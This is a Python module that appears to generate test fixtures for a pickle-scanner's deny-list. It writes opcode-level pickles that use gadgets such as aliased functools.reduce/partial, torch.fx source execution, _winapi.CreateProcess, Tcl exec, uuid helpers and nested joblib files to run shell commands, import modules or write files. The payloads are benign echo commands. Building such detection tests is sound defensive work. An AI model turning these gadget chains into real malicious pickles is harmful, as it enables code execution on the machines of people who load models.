"""Samples for the pickle import policy's red-team fixes: gadgets that were missing from the deny
list (with their siblings), names that lead elsewhere than they read (a re-export of
functools.reduce or functools.partial under a package wildcard), a function of a package whose
wildcard only vouches for classes, torch.fx's reduce_graph_module judged by the source it
executes, and scikit-learn's functools.partial(check_array, ...) that must stay clean.

Payloads are harmless (`echo quarantine-sample`, addresses in 192.0.2.0/24). Standard library
only; pickles are written opcode by opcode and never unpickled.
"""

from __future__ import annotations

from gen_pickle_parity import CLEAN, CMD, MALICIOUS, SUSPICIOUS, p4, sg, u


def tup(*items: bytes) -> bytes:
    if len(items) <= 3:
        return b"".join(items) + {0: b")", 1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(items)]
    return b"(" + b"".join(items) + b"t"


def call(module: str, name: str, *args: bytes) -> bytes:
    """module.name(*args): STACK_GLOBAL, the argument tuple, REDUCE."""
    return sg(module, name) + tup(*args) + b"R"


def one_call(module: str, name: str, *args: bytes) -> bytes:
    return p4(call(module, name, *args) + b".")


def str_list(*items: str) -> bytes:
    return b"]" + b"(" + b"".join(u(i) for i in items) + b"e"


def method_call(module: str, cls: str, method: str, ctor_args: tuple, *args: bytes) -> bytes:
    """module.cls.method(module.cls(*ctor_args), *args) (a dotted STACK_GLOBAL name)."""
    body = sg(module, f"{cls}.{method}") + tup(call(module, cls, *ctor_args), *args) + b"R."
    return p4(body)


FX_IMPORTS = "\nimport torch\nfrom math import inf\nfrom math import nan\nNoneType = type(None)\n"
FX_PLAIN = (
    "\n\n\ndef forward(self, x):\n    linear = self.linear(x);  x = None\n"
    "    relu = torch.relu(linear);  linear = None\n    return relu\n    "
)
FX_HOST = (
    "\n\n\ndef forward(self, x):\n    import os\n    os.system('" + CMD + "')\n    return x\n    "
)


def reduce_graph_module(code: str) -> bytes:
    """What torch.save of a torch.fx GraphModule writes: reduce_graph_module(body, import_block),
    body holding the generated source under `_code` and the class name."""
    body = (b"}(" + u("_code") + u(code) + u("_graphmodule_cls_name") + u("GraphModule")
            + u("training") + b"\x88" + b"u")
    return p4(sg("torch.fx.graph_module", "reduce_graph_module") + body + u(FX_IMPORTS) + b"\x86R.")


def partial_check_array() -> bytes:
    """pickle.dumps(functools.partial(check_array, dtype=[np.float64], ensure_all_finite=False))
    as HistGradientBoosting's preprocessor holds it (the dtype list simplified to a string)."""
    f = sg("sklearn.utils.validation", "check_array") + b"\x94"
    state = tup(b"h\x00", b")",
                b"}(" + u("dtype") + u("float64") + u("ensure_all_finite") + b"\x89u", b"N")
    return p4(sg("functools", "partial") + f + b"\x85R" + state + b"b.")


def joblib_legacy_wrapper(filename: str, cls: str = "NDArrayWrapper") -> bytes:
    """What joblib < 0.10 wrote for an array kept in a file of its own:
    {'w': NDArrayWrapper(filename=..., subclass=numpy.ndarray, allow_mmap=False)}."""
    wrapper = (sg("joblib.numpy_pickle_compat", cls) + b")\x81"
               + b"}(" + u("filename") + u(filename) + u("subclass") + sg("numpy", "ndarray")
               + u("allow_mmap") + b"\x89ub")
    return p4(b"}" + u("w") + wrapper + b"s.")


def samples(register, ok):
    def add(path, expected, *findings, desc, build):
        register(path, expected, *findings, desc=desc, build=lambda: ok(build()))

    add("malicious/policy_alias_sharded_tensor_reduce.pkl", MALICIOUS,
        ("PKL001", "torch.distributed._shard.sharded_tensor.api.reduce"),
        desc="torch.distributed._shard.sharded_tensor.api.reduce (functools.reduce, imported by "
             "that module) under the sharded_tensor package wildcard",
        build=lambda: one_call("torch.distributed._shard.sharded_tensor.api", "reduce",
                               sg("builtins", "str"), str_list(CMD)))
    add("malicious/policy_alias_lr_scheduler_partial.pkl", MALICIOUS,
        ("PKL001", "torch.optim.lr_scheduler.partial"),
        desc="torch.optim.lr_scheduler.partial (functools.partial) binding "
             "torch.testing._internal.common_utils.shell, then called",
        build=lambda: p4(sg("torch.optim.lr_scheduler", "partial")
                         + tup(sg("torch.testing._internal.common_utils", "shell"), u(CMD))
                         + b"R)R."))
    add("malicious/policy_transformers_rotate_checkpoints.pkl", MALICIOUS,
        ("PKL001", "transformers.trainer_utils.rotate_checkpoints"),
        desc="transformers.trainer_utils.rotate_checkpoints (shutil.rmtree of checkpoint "
             "directories), once allowed by the trainer_utils wildcard",
        build=lambda: one_call("transformers.trainer_utils", "rotate_checkpoints", u("/srv/models")))
    add("malicious/policy_uuid_find_mac_near_keyword.pkl", MALICIOUS,
        ("PKL001", "uuid._find_mac_near_keyword"),
        desc="uuid._find_mac_near_keyword('echo', 'quarantine-sample', ...): runs the command",
        build=lambda: one_call("uuid", "_find_mac_near_keyword", u("echo"), u("quarantine-sample"),
                               b"]", sg("builtins", "int")))
    add("malicious/policy_bootsubprocess_check_output.pkl", MALICIOUS,
        ("PKL001", "_bootsubprocess.check_output"),
        desc="_bootsubprocess.check_output (os.system of a shell command)",
        build=lambda: one_call("_bootsubprocess", "check_output", str_list("echo", "quarantine-sample")))
    add("malicious/policy_pipes_template_copy.pkl", MALICIOUS,
        ("PKL001", "pipes.Template.copy"),
        desc="pipes.Template.copy(pipes.Template(), ...): runs a shell pipeline",
        build=lambda: method_call("pipes", "Template", "copy", (), u("/dev/null"), u("/tmp/x")))
    add("malicious/policy_fx_exec_with_source.pkl", MALICIOUS,
        ("PKL001", "torch.fx.graph_module._exec_with_source"),
        desc="torch.fx.graph_module._exec_with_source(source, {}): exec",
        build=lambda: one_call("torch.fx.graph_module", "_exec_with_source",
                               u(f"import os\nos.system('{CMD}')\n"), b"}"))
    add("malicious/policy_fx_reduce_graph_module_host_call.pkl", MALICIOUS,
        ("PKL011", "os.system"),
        desc="a torch.fx GraphModule pickle whose generated `_code` calls os.system",
        build=lambda: reduce_graph_module(FX_HOST))
    add("suspicious/policy_fx_reduce_graph_module_plain.pkl", SUSPICIOUS,
        ("PKL010", "def forward"),
        desc="what torch.save of an ordinary torch.fx GraphModule writes: reduce_graph_module "
             "executes generated source that calls nothing on the host",
        build=lambda: reduce_graph_module(FX_PLAIN))
    add("malicious/policy_torch_distributed_run_main.pkl", MALICIOUS,
        ("PKL001", "torch.distributed.run.main"),
        desc="torch.distributed.run.main (torchrun): spawns the program it is given",
        build=lambda: one_call("torch.distributed.run", "main", str_list("--no-python", "echo", "quarantine-sample")))
    add("malicious/policy_winapi_create_process.pkl", MALICIOUS,
        ("PKL001", "_winapi.CreateProcess"),
        desc="_winapi.CreateProcess (Windows process creation)",
        build=lambda: one_call("_winapi", "CreateProcess", b"N", u(f"cmd /c {CMD}"), b"N", b"N",
                               b"\x89", b"K\x00", b"N", b"N", b"N"))
    add("malicious/policy_imp_create_dynamic.pkl", MALICIOUS,
        ("PKL001", "_imp.create_dynamic"),
        desc="_imp.create_dynamic: loads a native library as a module",
        build=lambda: one_call("_imp", "create_dynamic",
                               call("types", "SimpleNamespace")))
    add("malicious/policy_frozen_importlib_gcd_import.pkl", MALICIOUS,
        ("PKL001", "_frozen_importlib._gcd_import"),
        desc="_frozen_importlib._gcd_import('os'): imports any module",
        build=lambda: one_call("_frozen_importlib", "_gcd_import", u("os")))
    add("malicious/policy_frozen_importlib_external_loader.pkl", MALICIOUS,
        ("PKL001", "_frozen_importlib_external.SourceFileLoader"),
        desc="_frozen_importlib_external.SourceFileLoader(...).load_module(): runs a source file",
        build=lambda: method_call("_frozen_importlib_external", "SourceFileLoader", "load_module",
                                  (u("m"), u("/tmp/m.py"))))
    add("malicious/policy_unittest_loader_from_name.pkl", MALICIOUS,
        ("PKL001", "unittest.loader.TestLoader.loadTestsFromName"),
        desc="unittest.loader.TestLoader().loadTestsFromName('os'): imports by name",
        build=lambda: method_call("unittest.loader", "TestLoader", "loadTestsFromName", (), u("os")))
    add("malicious/policy_tkinter_tcl_eval.pkl", MALICIOUS,
        ("PKL001", "tkinter.Tcl.eval"),
        desc="tkinter.Tcl().eval('exec echo quarantine-sample'): Tcl runs the command",
        build=lambda: method_call("tkinter", "Tcl", "eval", (), u(f"exec {CMD}")))
    add("malicious/policy_string_formatter_get_field.pkl", MALICIOUS,
        ("PKL001", "string.Formatter.get_field"),
        desc="string.Formatter().get_field('0.__init__.__globals__', ...): a getattr chain",
        build=lambda: method_call("string", "Formatter", "get_field", (),
                                  u("0.__init__.__globals__"), tup(sg("builtins", "str")), b"}"))
    add("malicious/policy_joblib_load_compatibility.pkl", MALICIOUS,
        ("PKL001", "joblib.numpy_pickle_compat.load_compatibility"),
        desc="joblib.numpy_pickle_compat.load_compatibility('/tmp/x.pkl'): unpickles another file",
        build=lambda: one_call("joblib.numpy_pickle_compat", "load_compatibility", u("/tmp/x.pkl")))
    add("malicious/policy_pyio_open.pkl", MALICIOUS,
        ("PKL001", "_pyio.open"),
        desc="_pyio.open('/tmp/quarantine-sample', 'w'): writes a file",
        build=lambda: one_call("_pyio", "open", u("/tmp/quarantine-sample"), u("w")))
    add("malicious/policy_codecs_open.pkl", MALICIOUS,
        ("PKL001", "codecs.open"),
        desc="codecs.open('/tmp/quarantine-sample', 'w'): writes a file",
        build=lambda: one_call("codecs", "open", u("/tmp/quarantine-sample"), u("w")))
    add("malicious/policy_sqlite3_private_connect.pkl", MALICIOUS,
        ("PKL001", "_sqlite3.connect"),
        desc="_sqlite3.connect('/tmp/quarantine-sample.db'): creates a database file",
        build=lambda: one_call("_sqlite3", "connect", u("/tmp/quarantine-sample.db")))
    add("malicious/policy_numpy_genfromtxt_url.pkl", MALICIOUS,
        ("PKL001", "numpy.genfromtxt"),
        desc="numpy.genfromtxt('http://192.0.2.1/x.csv'): fetches a URL",
        build=lambda: one_call("numpy", "genfromtxt", u("http://192.0.2.1/x.csv")))
    add("malicious/policy_joblib_legacy_array_absolute.pkl", MALICIOUS,
        ("PKL014", "/tmp/quarantine-sample.npy"),
        desc="legacy joblib NDArrayWrapper naming an absolute array file, which joblib.load "
             "unpickles with numpy.load(allow_pickle=True)",
        build=lambda: joblib_legacy_wrapper("/tmp/quarantine-sample.npy"))
    add("malicious/policy_joblib_legacy_zarray_dotdot.pkl", SUSPICIOUS,
        ("PKL015", "../"),
        desc="legacy joblib ZNDArrayWrapper reading its compressed array from a file above the "
             "pickle's directory",
        build=lambda: joblib_legacy_wrapper("../../quarantine-sample.z", "ZNDArrayWrapper"))
    add("malicious/policy_joblib_legacy_sibling/model.pkl", MALICIOUS,
        ("PKL001", "posix.system"),
        desc="legacy joblib pickle whose NDArrayWrapper names a sibling file holding a pickle "
             "that calls posix.system (joblib.load unpickles it): found when the pickle is scanned alone",
        build=lambda: joblib_legacy_wrapper("model.pkl_01.npy"))
    add("malicious/policy_joblib_legacy_sibling/model.pkl_01.npy", MALICIOUS,
        ("PKL001", "posix.system"),
        desc="the array file of the legacy joblib pickle above: a pickle, not an .npy array",
        build=lambda: p4(call("posix", "system", u(CMD)) + b"."))
    add("benign/policy_partial_check_array.pkl", CLEAN,
        desc="functools.partial(sklearn.utils.validation.check_array, dtype=..., "
             "ensure_all_finite=False) as scikit-learn's HistGradientBoosting pickles it",
        build=partial_check_array)
    # A method reference pickles as getattr(C, 'm') and is data while nothing calls it
    # (fastai's export.pkl binds one with MethodType); the same getattr called is code.
    add("malicious/policy_getattr_method_reference_called.pkl", MALICIOUS,
        ("PKL001", "getattr(fastai.data.core.FilteredBase, 'dataloaders')"),
        desc="getattr(fastai.data.core.FilteredBase, 'dataloaders') kept in the memo as a method "
             "reference, then called with attacker arguments",
        build=lambda: p4(sg("builtins", "getattr") + tup(sg("fastai.data.core", "FilteredBase"),
                                                         u("dataloaders"))
                         + b"R\x94" + b"0" + b"h\x00" + tup(u(CMD)) + b"R."))
    # dill pickles ndarrays as _create_array(_reconstruct, args, state): it calls its first
    # argument with the second, so only numpy's reconstructor is accepted there.
    add("malicious/policy_dill_create_array_system.pkl", MALICIOUS,
        ("PKL001", "posix.system"),
        desc="dill._dill._create_array(posix.system, ('echo quarantine-sample',), None, None): "
             "the array helper calling a shell instead of numpy's reconstructor",
        build=lambda: one_call("dill._dill", "_create_array", sg("posix", "system"),
                               tup(u(CMD)), b"N", b"N"))
